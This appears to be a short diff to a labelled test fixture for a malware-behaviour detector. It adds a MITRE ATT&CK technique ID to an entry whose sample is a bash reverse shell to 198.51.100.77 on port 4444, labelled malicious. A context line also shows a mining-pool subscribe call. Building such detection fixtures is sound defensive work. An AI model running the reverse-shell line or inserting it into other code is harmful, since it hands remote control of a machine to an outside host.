@@ -134,7 +134,10 @@ pool.sendall(b'{"id":2,"method":"mining.subscribe","params":[]}\n')
     name: 'hands a shell out, by the shell itself',
     language: 'shell',
     source: shell(['timeout 3 bash -c "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"', 'exit 0']),
-    shows: { trace_opens_reverse_shell: ['T1059.004', 'T1095'], trace_speaks_own_protocol: ['T1095', 'T1571'] },
+    shows: {
+      trace_opens_reverse_shell: ['T1059.004', 'T1095'],
+      trace_speaks_own_protocol: ['T1095', 'T1571', 'T1082'],
+    },
     label: 'malicious',
     tells: ['198.51.100.77'],
   },
